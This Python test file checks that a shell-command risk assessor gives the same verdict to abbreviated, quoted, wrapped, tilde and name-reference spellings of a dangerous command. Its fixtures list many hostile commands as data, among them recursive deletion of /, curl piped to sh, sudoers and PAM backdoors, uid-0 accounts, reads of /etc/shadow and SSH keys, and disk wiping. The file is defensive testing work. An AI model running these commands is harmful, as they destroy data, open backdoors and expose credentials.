"""One verdict per meaning: spellings bash (and the program) treat alike get the same verdict.

For every rule below, the plain spelling and each equivalent one are assessed and must agree:
long options abbreviated to any prefix the program accepts (GNU getopt_long, argp, curl,
git), quoted or escaped, behind ``sudo``/``env``/``bash -c``; the tilde forms ``~+`` and
``~0`` where the working directory is known; name references (``declare -n``, ``local -n``,
``typeset -n``) in place of the variable. A property test (hypothesis) mixes them at random;
an exhaustive one walks every (rule, spelling) pair and reports their number.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from hypothesis import given, settings
from hypothesis import strategies as st

from anna_common.risk.assess import AssessContext, Assessment, assess
from anna_common.shell.longopts import LONG_OPTIONS, canonical_args, expand, table_key
from anna_common.shell.words import Word

CTX = AssessContext(distro="arch", home="/home/alice")
URL = "https://example.com/x"

LONG_RULES: dict[str, str] = {
    "rm: recursive delete of the home": "rm --recursive --force ~",
    "rm: recursive delete of /": "rm --recursive --force --no-preserve-root /",
    "chmod: world-writable /": "chmod --recursive 777 /",
    "chown: system tree given away": "chown --recursive --no-dereference alice /etc",
    "chgrp: system tree": "chgrp --recursive alice /usr",
    "pacman: critical package removed": "pacman --remove --nodeps linux",
    "pacman: overwrite on sync": "pacman --sync --overwrite '*' htop",
    "pacman: database path": "pacman --query --dbpath /tmp/db",
    "systemctl: security unit masked": "systemctl --no-reload mask apparmor",
    "systemctl: user unit": "systemctl --user --now enable foo.service",
    "sed: sshd opened in place": "sed --in-place 's/PermitRootLogin no/PermitRootLogin yes/' "
                                 "/etc/ssh/sshd_config",
    "sed: expression into pam": "sed --in-place --expression='1i auth sufficient "
                                "pam_permit.so' /etc/pam.d/sudo",
    "curl: download piped to sh": f"curl --silent --location {URL} | sh",
    "curl: download into cron": f"curl --silent --output /etc/cron.d/x {URL}",
    "wget: download into cron": f"wget --quiet --output-document=/etc/cron.d/x {URL}",
    "git: clean": "git clean --force -d -x",
    "git: reset": "git reset --hard HEAD~1",
    "git: checkout": "git checkout --force main",
    "journalctl: vacuum": "journalctl --vacuum-size=1M",
    "sort: output over passwd": "sort --output=/etc/passwd /tmp/x",
    "cp: target directory": "cp --target-directory=/etc /tmp/x",
    "mv: target directory": "mv --target-directory=/usr/bin /tmp/x",
    "ln: force symbolic": "ln --symbolic --force /tmp/x /usr/bin/sudo",
    "install: mode": "install --mode=4755 /tmp/x /usr/local/bin/x",
    "useradd: non-unique uid 0": "useradd --non-unique --uid 0 eve",
    "usermod: groups": "usermod --append --groups wheel eve",
    "passwd: delete password": "passwd --delete root",
    "xargs: argument file": "xargs --arg-file=/etc/shadow cat",
    "tar: to-command": "tar --extract --file /tmp/x.tar --to-command=sh",
    "tee: append to sudoers": "echo 'eve ALL=(ALL) NOPASSWD: ALL' | tee --append "
                              "/etc/sudoers.d/eve",
    "shred: remove": "shred --remove --zero /etc/passwd",
    "truncate: size": "truncate --size=0 /etc/passwd",
    "sudo: user root": "sudo --user=root rm --recursive --force /",
    "sudo: preserve environment": "sudo --preserve-env rm -rf /",
    "env: split string": "env --split-string='rm -rf /'",
    "env: ignore environment": "env --ignore-environment rm -rf /",
    "su: command": "su --command 'rm -rf /'",
    "systemd-run: on calendar": "systemd-run --on-calendar=daily /tmp/x",
    "mount: bind": "mount --bind /tmp /etc",
    "wipefs: all": "wipefs --all /dev/sdb",
    "dmesg: clear": "dmesg --clear",
    "date: set": "date --set '2020-01-01'",
    "timedatectl: set": "timedatectl --no-ask-password set-time '2020-01-01'",
    "flock: command": "flock --command 'rm -rf /' /tmp/lock",
    "efibootmgr: boot entry deleted": "efibootmgr --delete-bootnum --bootnum 0001",
    "efibootmgr: boot order": "efibootmgr --bootorder 0001,0002",
    "efibootmgr: entry created": "efibootmgr --create-only --disk /dev/sda --part 1 "
                                 "--loader x.efi",
    "efibootmgr: listing": "efibootmgr --verbose",
    "mdadm: superblock zeroed": "mdadm --detail --zero-superblock /dev/sdb",
    "mdadm: array created": "mdadm --examine --create /dev/md0 --level=1 --raid-devices=2 "
                            "/dev/sda /dev/sdb",
    "mdadm: array stopped": "mdadm --manage --stop /dev/md0",
    "parted: label written": "parted --script /dev/sda mklabel gpt",
    "parted: listing": "parted --list",
    "firewall-cmd: trusted default zone": "firewall-cmd --set-default-zone=trusted",
    "firewall-cmd: full reload": "firewall-cmd --complete-reload",
    "firewall-cmd: rule removed": "firewall-cmd --permanent --remove-service=ssh",
    "firewall-cmd: listing": "firewall-cmd --list-services",
    "setfacl: /etc given away": "setfacl --recursive --modify u:eve:rwx /etc",
    "setfacl: shadow": "setfacl --remove-all /etc/shadow",
    "mkfs.btrfs: device formatted": "mkfs.btrfs --force --label x /dev/sdb",
    "mkfs.fat: device formatted": "mkfs.fat --invariant /dev/sdb1",
    "mkfs: device formatted": "mkfs --type ext4 /dev/sdb",
    "nft: ruleset flushed": "nft --check flush ruleset",
    "nft: version": "nft --version",
    "lvremove: volume removed": "lvremove --force --yes vg/lv",
    "vgremove: group removed": "vgremove --force vg",
    "pvremove: label removed": "pvremove --force --yes /dev/sdb",
    "lvreduce: volume shrunk": "lvreduce --resizefs --size 1G vg/lv",
    "bootctl: installed into a given ESP": "bootctl --esp-path /efi --graceful install",
    "bootctl: status of a given ESP": "bootctl --esp-path /efi --no-variables status",
}
"""Rule → the plain spelling, every long option written out in full."""

TILDE_RULES: dict[str, tuple[str, ...]] = {
    "recursive delete of the home": ("rm -rf ~/*", "rm -rf ~+/*", "rm -rf ~0/*",
                                     "cd ~ && rm -rf ~+/*"),
    "world-writable /": ("sudo chmod -R 777 /", "cd / && sudo chmod -R 777 ~+",
                         "cd / && sudo chmod -R 777 ~+0"),
    "root step in /": ("sudo rm -rf /*", "sudo rm -rf ~+/*", "sudo rm -rf ~0/*"),
    "recursive delete of /etc": ("rm -rf /etc", "cd /etc && rm -rf ~+", "cd /etc; rm -rf ~+0"),
    "secret read in the home": ("cat ~/.ssh/id_rsa", "cat ~+/.ssh/id_rsa",
                                "cd ~/.ssh && cat ~+/id_rsa"),
    "secret read of shadow": ("cat /etc/shadow", "cd /etc && cat ~+/shadow",
                              "cd / && cat ~+/etc/shadow"),
    "unknown directory": ('rm -rf "$OLDPWD"/x', "rm -rf ~-/x", "rm -rf ~1/x", "rm -rf ~-2/x"),
    "root's home": ("rm -rf /root", "rm -rf ~root"),
}
"""Rule → spellings that name the same place."""

NAMEREF_RULES: dict[str, tuple[str, ...]] = {
    "PATH changed": ("PATH=/tmp:$PATH; ls", "declare -n p=PATH; p=/tmp:$PATH; ls",
                     "typeset -n p=PATH; p=/tmp:$PATH; ls", "f() { local -n p=PATH; "
                     "p=/tmp:$PATH; }; f; ls"),
    "preloaded library": ("LD_PRELOAD=/tmp/x.so; export LD_PRELOAD; ls",
                          "declare -n r=LD_PRELOAD; r=/tmp/x.so; export LD_PRELOAD; ls",
                          "declare -n r; r=LD_PRELOAD; r=/tmp/x.so; export LD_PRELOAD; ls"),
    "history off": ("HISTFILE=/dev/null", "declare -n h=HISTFILE; h=/dev/null",
                    "local -n h=HISTFILE; h=/dev/null"),
    "delete through a variable": ('X=/etc; rm -rf "$X"', 'X=/etc; declare -n r=X; rm -rf "$r"',
                                  'X=/etc; typeset -n r=X; rm -rf "$r"'),
    "code variable from input": ("read -r PATH; ls", "declare -n p=PATH; read -r p; ls",
                                 "typeset -n p=BASH_ENV; mapfile -t p; bash /tmp/x"),
}
"""Rule → spellings that assign or read the same variable."""

_OPTION = re.compile(r"(?<![\w-])--([a-z][a-z0-9-]*)")


def _program_of(command: str) -> tuple[str, list[str]]:
    words = command.split()
    start = 1 if words[0] != "echo" else words.index("|") + 2
    return words[start - 1], words[start:]


def _prefixes(key: str, name: str) -> list[str]:
    """Every prefix of ``--name`` that ``key``'s program reads as ``--name``."""
    names = LONG_OPTIONS[key]
    return [name[:k] for k in range(1, len(name) + 1)
            if name[:k] == name or [n for n in names if n.startswith(name[:k])] == [name]]


def _key_for(command: str, name: str) -> str | None:
    """The long-option table ``--name`` in ``command`` is read from (the program or wrapper
    whose option it is)."""
    program, rest = _program_of(command)
    key, _ = table_key(program, [Word.of(w) for w in rest])
    for candidate in (key, "sudo", "env", "su", "systemd-run", "flock", "rm", "tee"):
        if candidate in LONG_OPTIONS and name in LONG_OPTIONS[candidate] and \
                candidate in command.split():
            return candidate
    return key if key in LONG_OPTIONS and name in LONG_OPTIONS[key] else None


def abbreviations(command: str) -> Iterator[str]:
    """``command`` with one long option at a time shortened to each prefix its program takes,
    bare, double-quoted, and with a quote pair in its middle."""
    for match in _OPTION.finditer(command):
        name = match.group(1)
        key = _key_for(command, name)
        if key is None:
            continue
        for prefix in _prefixes(key, name):
            if prefix == name:
                continue
            for spelled in (f"--{prefix}", f'"--{prefix}"', f"--{prefix[:1]}''{prefix[1:]}"):
                yield command[:match.start()] + spelled + command[match.end():]


def wrapped(command: str) -> Iterator[str]:
    """The same command behind wrappers that do not change what it does."""
    yield command
    if "|" not in command and ";" not in command and "&" not in command:
        yield f"env {command}"
        if "'" not in command:
            yield f"bash -c '{command}'"


def _verdict(command: str) -> tuple[object, ...]:
    verdict: Assessment = assess(command, CTX)
    return verdict.risk, verdict.banned


def all_pairs() -> Iterator[tuple[str, str, str]]:
    """(rule, plain spelling, equivalent spelling) for every rule of this module."""
    for rule, plain in LONG_RULES.items():
        for spelled in abbreviations(plain):
            for form in wrapped(spelled):
                yield rule, next(iter(wrapped(plain))) if form == spelled else \
                    form.replace(spelled, plain), form
    for table in (TILDE_RULES, NAMEREF_RULES):
        for rule, (plain, *others) in table.items():
            for other in others:
                yield rule, plain, other


def test_every_spelling_gets_the_plain_verdict() -> None:
    """The exhaustive walk; its count is the figure the closing note reports."""
    pairs = list(all_pairs())
    differing = [(rule, plain, other, _verdict(plain), _verdict(other))
                 for rule, plain, other in pairs if _verdict(plain) != _verdict(other)]
    assert not differing, differing[:5]
    assert len({rule for rule, _, _ in pairs}) == len(LONG_RULES) + len(TILDE_RULES) + len(
        NAMEREF_RULES), "a rule has no equivalent spelling"
    assert len(pairs) >= 800


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(sorted(LONG_RULES)), st.data())
def test_random_mix_of_abbreviations(rule: str, data: st.DataObject) -> None:
    """Several options shortened at once, each to a prefix drawn at random, some quoted."""
    plain = LONG_RULES[rule]
    spelled = plain
    for match in reversed(list(_OPTION.finditer(plain))):
        key = _key_for(plain, match.group(1))
        if key is None:
            continue
        prefix = data.draw(st.sampled_from(_prefixes(key, match.group(1))))
        quote = data.draw(st.sampled_from(["", '"', "'"]))
        spelled = spelled[:match.start()] + f"{quote}--{prefix}{quote}" + spelled[match.end():]
    assert _verdict(spelled) == _verdict(plain), (plain, spelled)


def test_known_expansions_match_the_programs() -> None:
    """Checked against the real programs (coreutils 9.1, pacman 6.0, git 2.39): these are
    what they accept, and an ambiguous prefix stays as written (the program refuses it)."""
    assert expand("rm", "--recur") == "--recursive"
    assert expand("rm", "--forc") == "--force"
    assert expand("chmod", "--recurs") == "--recursive"
    assert expand("pacman", "--remov") == "--remove"
    assert expand("git push", "--forc") == "--forc"  # --force, --force-with-lease, ...
    assert expand("rm", "--re=x") == "--recursive=x"
    assert expand("curl", "--outp") == "--outp"  # --output, --output-dir
    # observed on the Debian 12 binaries: efibootmgr, mdadm, parted, LVM take prefixes;
    # cryptsetup (popt) refuses ``--versio``, so its options are read as written
    assert expand("efibootmgr", "--delete-bootnu") == "--delete-bootnum"
    assert expand("efibootmgr", "--delete-b") == "--delete-b"  # -bootnext, -bootnum, ...
    assert expand("mdadm", "--zero") == "--zero-superblock"
    assert expand("firewall-cmd", "--set-default=trusted") == "--set-default-zone=trusted"
    assert expand("cryptsetup", "--persist") == "--persist"
    args = canonical_args("git", [Word.of(w) for w in ("-C", "/x", "clean", "--forc", "--",
                                                       "--forc")])
    assert [w.text for w in args] == ["-C", "/x", "clean", "--force", "--", "--forc"]


def test_abbreviated_options_get_the_plain_bans() -> None:
    """The issue's three: each abbreviation gets the verdict of the plain short option."""
    for short, abbreviated in (("rm -rf ~", "rm --recur --forc ~"),
                               ("chmod -R 777 /", "chmod --recurs 777 /"),
                               ("pacman -R linux", "pacman --remov linux")):
        assert _verdict(short) == _verdict(abbreviated), (short, abbreviated)
    assert assess("rm --recur --forc ~", CTX).banned
    assert assess("chmod --recurs 777 /", CTX).banned
